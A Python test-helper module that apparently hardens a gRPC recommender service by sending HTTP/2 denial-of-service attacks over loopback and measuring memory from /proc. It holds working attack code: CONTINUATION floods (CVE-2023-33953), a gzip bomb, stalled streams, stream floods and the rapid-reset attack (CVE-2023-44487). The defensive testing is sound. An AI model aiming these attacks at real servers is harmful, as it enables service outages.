"""Attacks of the hardening issue, on raw loopback sockets, each bounded in
bytes and time, and what they are measured by: a process's resident set
(VmRSS) and its peak (VmHWM) from /proc."""
import gzip
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, CONTINUATION, SETTINGS, DATA, RST_STREAM = 1, 9, 4, 0, 3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
END_STREAM, END_HEADERS = 0x1, 0x4
MAX_FRAME = 16384  # the HTTP/2 default SETTINGS_MAX_FRAME_SIZE


def memory_kb(pid):
    """(VmRSS, VmHWM) of pid in kB."""
    fields = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            fields[key] = value
    return int(fields["VmRSS"].split()[0]), int(fields["VmHWM"].split()[0])


def frame(type_, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([type_, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first=0):
    """An HPACK integer with an N-bit prefix; first holds the bits above it."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_str(s):
    return hpack_int(len(s), 7) + s


def literal(name, value):
    """A literal header field without indexing, with a literal name."""
    return b"\x00" + hpack_str(name) + hpack_str(value)


def request_headers(path, extra=()):
    block = (b"\x83\x86"  # :method POST, :scheme http (static table)
             + b"\x04" + hpack_str(path.encode())  # :path, literal value
             + b"\x01" + hpack_str(b"localhost")  # :authority
             + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))
    for name, value in extra:
        block += literal(name.encode(), value.encode())
    return block


def connect(address, timeout=10):
    host, port = address.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=timeout)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    return s


def continuation_flood(address, total=200 << 20, seconds=5.0, style="small"):
    """HEADERS without END_HEADERS on stream 1, then CONTINUATION frames until
    total bytes or seconds have gone, or the peer closes. Returns the bytes
    sent. The frames hold valid HPACK, in one of two styles (the two
    buffering vectors of CVE-2023-33953): "small", a few short literal
    fields per frame, each frame under any per-frame size check; "huge", one
    literal field whose value is declared 4 GiB long and goes on in every
    frame."""
    s = connect(address)
    block = request_headers("/recd.v1.Recommender/Recommend")
    if style == "huge":
        block += b"\x00" + hpack_str(b"x-junk") + hpack_int((4 << 30) - 1, 7)
        junk = b"v" * MAX_FRAME
    else:
        junk = b"".join(literal(b"x-junk-%d" % i, b"v" * 100) for i in range(8))
    s.sendall(frame(HEADERS, END_STREAM, 1, block))
    chunk = frame(CONTINUATION, 0, 1, junk) * (256 * 1024 // len(junk))
    sent = 0
    deadline = time.monotonic() + seconds
    s.settimeout(max(0.1, seconds))
    try:
        while sent < total and time.monotonic() < deadline:
            s.sendall(chunk)
            sent += len(chunk)
    except OSError:  # closed by the peer, or it stopped reading
        pass
    finally:
        s.close()
    return sent


def grpc_message(payload, compressed=False):
    return bytes([1 if compressed else 0]) + struct.pack(">I", len(payload)) + payload


def gzip_bomb(inflated=1 << 30):
    """About 1 MB of gzip that inflates to `inflated` zero bytes."""
    return gzip.compress(bytes(inflated), compresslevel=9, mtime=0)


def raw_unary(address, path, body, extra=(), timeout=20):
    """One gRPC call through h2 on a fresh connection, with extra headers as
    given (h2 checks nothing gRPC-specific); body is the whole DATA payload,
    gRPC framing included, sent as flow control allows. Returns ("status",
    code, message), ("reset", code), ("goaway", code) or ("eof",)."""
    import h2.config
    import h2.connection
    import h2.events

    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=timeout)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    conn.send_headers(1, [(":method", "POST"), (":scheme", "http"), (":path", path),
                          (":authority", "localhost"), ("content-type", "application/grpc"),
                          ("te", "trailers"), *extra])
    headers, offset, ended = {}, 0, False
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            while not ended:
                n = min(conn.local_flow_control_window(1), conn.max_outbound_frame_size,
                        len(body) - offset)
                if n <= 0 and offset < len(body):
                    break
                conn.send_data(1, body[offset:offset + n], end_stream=offset + n == len(body))
                offset += n
                ended = offset == len(body)
            sock.sendall(conn.data_to_send())
            try:
                data = sock.recv(65536)
            except ConnectionResetError:
                return ("eof",)
            if not data:
                return ("eof",)
            for ev in conn.receive_data(data):
                if isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    headers.update({k.decode(): v.decode() for k, v in ev.headers})
                elif isinstance(ev, h2.events.DataReceived):
                    conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                elif isinstance(ev, h2.events.StreamEnded):
                    return ("status", int(headers["grpc-status"]), headers.get("grpc-message", ""))
                elif isinstance(ev, h2.events.StreamReset):
                    return ("reset", ev.error_code)
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    return ("goaway", ev.error_code)
        raise AssertionError(f"no outcome within {timeout} s")
    finally:
        sock.close()


def wait_goaway(sock, timeout=20):
    """Reads frames until a GOAWAY or the end of the connection; returns
    "goaway" or "eof", or None when neither came within timeout."""
    sock.settimeout(timeout)
    buf = b""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            if buf[3] == 7:
                return "goaway"
            buf = buf[9 + n:]
        try:
            data = sock.recv(65536)
        except socket.timeout:
            return None
        except ConnectionResetError:
            return "eof"
        if not data:
            return "eof"
        buf += data
    return None


def stalled_stream(address, path, body, window=64):
    """Opens a server-streaming call with a stream flow-control window of
    `window` bytes and never reads past it (no WINDOW_UPDATE, nothing read
    from the socket): the server's next send waits in flow control. Returns
    the socket; the caller closes it."""
    host, port = address.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=10)
    settings = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, window)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings)
              + frame(HEADERS, END_HEADERS, 1, request_headers(path))
              + frame(DATA, END_STREAM, 1, grpc_message(body)))
    return s


def stream_flood(address, n=5000, ack=False, path="/recd.v1.Recommender/Recommend"):
    """n request HEADERS on one connection, none with a message or
    END_STREAM: n half-sent calls open at once. With ack the client first
    acknowledges the server's SETTINGS (its stream limit then binds a
    conforming client); without, it never does. Returns the number of
    streams sent before the peer closed."""
    s = connect(address)
    sent = 0
    try:
        if ack:
            s.settimeout(5)
            s.recv(4096)  # the server's SETTINGS
            s.sendall(frame(SETTINGS, 1, 0, b""))
        block = request_headers(path)
        buf = b""
        for i in range(n):
            buf += frame(HEADERS, END_HEADERS, 1 + 2 * i, block)
            if len(buf) > 1 << 16:
                s.sendall(buf)
                sent, buf = i + 1, b""
        s.sendall(buf)
        sent = n
        time.sleep(1)
    except OSError:  # closed by the peer
        pass
    finally:
        s.close()
    return sent


def rapid_reset(address, n=20000, path="/recd.v1.Recommender/Recommend"):
    """HEADERS then RST_STREAM(CANCEL) for n streams on one connection (the
    HTTP/2 rapid reset, CVE-2023-44487): open streams stay few, calls made
    are many. Returns the streams sent before the peer closed."""
    s = connect(address)
    block = request_headers(path)
    sent, buf = 0, b""
    try:
        for i in range(n):
            sid = 1 + 2 * i
            buf += frame(HEADERS, END_HEADERS, sid, block) + frame(RST_STREAM, 0, sid,
                                                                  struct.pack(">I", 8))
            if len(buf) > 1 << 16:
                s.sendall(buf)
                sent, buf = i + 1, b""
        s.sendall(buf)
        sent = n
        time.sleep(1)
    except OSError:
        pass
    finally:
        s.close()
    return sent
